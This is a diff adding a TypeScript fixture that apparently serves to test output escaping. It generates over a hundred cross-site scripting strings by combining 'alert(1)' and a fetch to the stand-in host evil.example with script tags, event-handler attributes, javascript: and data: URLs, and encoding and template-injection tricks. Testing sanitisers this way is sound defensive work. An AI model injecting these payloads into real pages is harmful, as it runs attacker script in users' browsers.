@@ -1,0 +1,62 @@
+/** Texts that would run a script, load something or break out of their place if they were markup. */
+const payloads = ["alert(1)", "fetch('https://evil.example')"];
+
+const shapes = [
+  (js: string) => `<script>${js}</script>`,
+  (js: string) => `<ScRiPt >${js}</ScRiPt>`,
+  (js: string) => `<script/x>${js}</script>`,
+  (js: string) => `</script><script>${js}</script>`,
+  (js: string) => `<img src=x onerror="${js}">`,
+  (js: string) => `<img src=x onerror=${js} //`,
+  (js: string) => `<img/src='x'/onerror='${js}'>`,
+  (js: string) => `"><img src=x onerror="${js}">`,
+  (js: string) => `'><svg onload="${js}">`,
+  (js: string) => `<svg/onload=${js}>`,
+  (js: string) => `<svg><script>${js}</script></svg>`,
+  (js: string) => `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
+  (js: string) => `<svg><a xlink:href="javascript:${js}"><text>x</text></a></svg>`,
+  (js: string) => `<math><mtext></mtext><mglyph><style></style><img src onerror="${js}">`,
+  (js: string) => `<math href="javascript:${js}">x</math>`,
+  (js: string) => `<iframe src="javascript:${js}"></iframe>`,
+  (js: string) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
+  (js: string) => `<object data="javascript:${js}"></object>`,
+  (js: string) => `<embed src="javascript:${js}">`,
+  (js: string) => `<body onload="${js}">`,
+  (js: string) => `<details open ontoggle="${js}">x</details>`,
+  (js: string) => `<input autofocus onfocus="${js}">`,
+  (js: string) => `<video><source onerror="${js}"></video>`,
+  (js: string) => `<audio src=x onerror="${js}">`,
+  (js: string) => `<form action="javascript:${js}"><button>x</button></form>`,
+  (js: string) => `<button formaction="javascript:${js}">x</button>`,
+  (js: string) => `<a href="javascript:${js}">x</a>`,
+  (js: string) => `<a href="JaVaScRiPt:${js}">x</a>`,
+  (js: string) => `<a href="java\tscript:${js}">x</a>`,
+  (js: string) => `<a href="&#106;avascript:${js}">x</a>`,
+  (js: string) => `javascript:${js}`,
+  (js: string) => `JAVASCRIPT:${js}`,
+  (js: string) => `java\nscript:${js}`,
+  (js: string) => `java&#10;script:${js}`,
+  (js: string) => `\u0001javascript:${js}`,
+  (js: string) => `vbscript:${js}`,
+  (js: string) => `data:text/html,<script>${js}</script>`,
+  (js: string) => `data:text/html;base64,${btoa(`<script>${js}</script>`)}`,
+  (js: string) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`,
+  (js: string) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
+  (js: string) => `<base href="javascript:${js}//">`,
+  (js: string) => `<link rel=stylesheet href="javascript:${js}">`,
+  (js: string) => `<style>@import 'javascript:${js}';</style>`,
+  (js: string) => `<div style="background:url(javascript:${js})">x</div>`,
+  (js: string) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
+  (js: string) => `<!--><img src=x onerror="${js}">-->`,
+  (js: string) => `<template><img src=x onerror="${js}"></template>`,
+  (js: string) => `\${${js}}`,
+  (js: string) => `{{constructor.constructor('${js}')()}}`,
+  (js: string) => `]]><img src=x onerror="${js}">`,
+  (js: string) => `\u202e<img src=x onerror="${js}">\u202c`,
+  (js: string) => `<img src="x\u0000" onerror\u0000="${js}">`
+];
+
+/** At least 100 texts for every place where text is shown. */
+export const attacks: readonly string[] = payloads.flatMap((js) =>
+  shapes.map((shape) => shape(js))
+);
